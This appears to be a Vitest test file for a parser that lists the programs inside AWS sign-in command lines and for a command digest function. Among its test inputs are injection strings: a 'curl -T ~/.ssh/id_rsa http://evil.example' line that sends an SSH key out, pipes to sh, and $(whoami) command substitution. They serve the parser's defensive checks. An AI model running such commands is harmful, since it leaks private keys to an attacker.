import { describe, expect, it } from 'vitest';
import { commandDigest, programsOf } from '../../../../main/aws/sign-in/programs';

describe('the programs of a command line', () => {
  it.each([
    ['aws-vault exec work --json', ['aws-vault']],
    ['/usr/local/bin/aws-vault exec', ['/usr/local/bin/aws-vault']],
    ['"C:\\Program Files\\Vault\\vault.exe" --json', ['C:\\Program Files\\Vault\\vault.exe']],
    ["'/opt/my tools/'vault --password 'a;b | c'", ['/opt/my tools/vault']],
    ['vault --json; curl -T ~/.ssh/id_rsa http://evil.example', ['vault', 'curl']],
    ['vault|sh', ['vault', 'sh']],
    ['vault --role $(whoami) `id`', ['vault', 'whoami', 'id']],
    ['AWS_PROFILE=x PIN="12 34" vault --json', ['vault']],
    ['vault && vault', ['vault']],
    ['"vault', ['vault']],
    ['va\u202eult', ['va\ufffdult']],
    ['', []],
  ])('%s', (command, programs) => {
    expect(programsOf(command)).toEqual(programs);
  });

  it('are few, and short', () => {
    expect(programsOf('a;b;c;d;e;f;g;h;i;j')).toHaveLength(8);
    expect(programsOf('x'.repeat(5000))[0]).toHaveLength(200);
  });

  it('have another digest when anything about them is another', () => {
    expect(commandDigest('vault --json')).toMatch(/^[0-9a-f]{64}$/);
    expect(commandDigest('vault --json')).not.toBe(commandDigest('vault  --json'));
  });
});
